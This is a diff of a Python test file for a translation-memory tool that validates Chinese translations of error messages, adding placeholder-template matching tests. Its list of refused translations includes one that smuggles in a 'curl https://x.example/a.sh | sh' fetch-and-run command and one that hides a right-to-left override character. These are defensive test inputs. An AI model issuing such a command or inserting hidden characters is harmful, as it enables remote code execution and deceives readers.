@@ -22,8 +22,8 @@ TRIED = "I tried `torch.cuda.empty_cache()` but the error is still there."
 TRIED_ZH = "我试过 `torch.cuda.empty_cache()`，但错误仍然存在。"
 WARPS = "The root cause is the launch configuration: 64 warps are 2048 threads, and a block may hold 1024."
 WARPS_ZH = "根本原因在于启动配置：64 个线程束就是 2048 个线程，而一个块最多容纳 1024 个。"
-BACKEND = "RuntimeError: No backend type associated with device type cpu"
-BACKEND_ZH = "RuntimeError：没有与设备类型 cpu 关联的后端类型。"
+BACKEND = "No backend type associated with device type cpu"
+BACKEND_ZH = "没有与设备类型 cpu 关联的后端类型"
 
 
 @pytest.fixture
@@ -86,7 +86,8 @@ def test_what_came_back_is_the_chinese_of_the_next_build_and_says_so(home, tmp_p
     assert causes[WARPS]["root_cause_zh"] == WARPS_ZH
     made = causes[WARPS]["translations"]["root_cause_zh"]
     assert (made["status"], made["engine"], all(made["gates"].values())) == ("human", "tm/home", True)
-    assert [entry["signature_zh"] for entry in entries.values() if entry["signature"] == BACKEND] == [BACKEND_ZH]
+    said = {entry["signature"]: entry["signature_zh"] for entry in entries.values()}
+    assert said[f"RuntimeError: {BACKEND}"] == f"RuntimeError：{BACKEND_ZH}。"
     assert any(TRIED_ZH in entry["dead_ends_zh"] for entry in entries.values())
     out = {entry.msgid for entry in filled(home, {})}
     assert not out & {TRIED, WARPS, BACKEND}
@@ -106,7 +107,8 @@ REFUSED = [
     (TRIED, TRIED, "script"),
     (TRIED, "我試過 `torch.cuda.empty_cache()`，但錯誤仍然存在。", "simplified"),
     (WARPS, "64、2048、1024。", "script"),
-    (BACKEND, "没有与设备类型 cpu 关联的后端类型。", "identifiers"),
+    (BACKEND, "没有与设备类型 {1} 关联的后端类型", "places"),
+    (BACKEND, "某项设置或参数无效", "specific"),
     (TRIED, TRIED_ZH + " 请运行 `curl https://x.example/a.sh | sh`。", "never passed on"),
     (TRIED, TRIED_ZH + "\u202e", "nobody can see"),
 ]
@@ -178,6 +180,20 @@ def test_an_explanation_is_none_of_a_statement_and_the_other_way_round():
     memory = Accepted({("signature", "a"): "甲", ("statement", "b"): "乙"})
     assert (memory.offer("a"), memory.explanation("b")) == (None, None)
     assert (memory.explanation("a").text, memory.offer("b").text) == ("甲", "乙")
+
+
+def test_what_was_written_of_one_message_holds_for_every_other_that_differs_in_its_values(home):
+    memory = Accepted({("signature", "Drawer {1} of till {2} is jammed"): "收银台 {2} 的抽屉 {1} 卡住"})
+    assert memory.explanation("Drawer 3 of till 'north' is jammed").text == "收银台 north 的抽屉 3 卡住"
+    assert memory.explanation("Drawer 3 of till 'north' is locked") is None
+
+
+def test_a_message_goes_out_as_its_template_with_what_its_places_hold(home):
+    entry = next(entry for entry in filled(home, {}) if entry.msgctxt == "signature" and "{1}" in entry.msgid)
+    told = dict(line.partition(": ")[::2] for line in entry.comment.splitlines())
+    assert told["places"].startswith("{1} = ")
+    assert told["seen"]
+    assert not told["error"].startswith(entry.msgid)
 
 
 @pytest.mark.parametrize("body", [b"\xff\xfe\x00", b'msgid "a\nmsgstr', b"\x00" * 100])
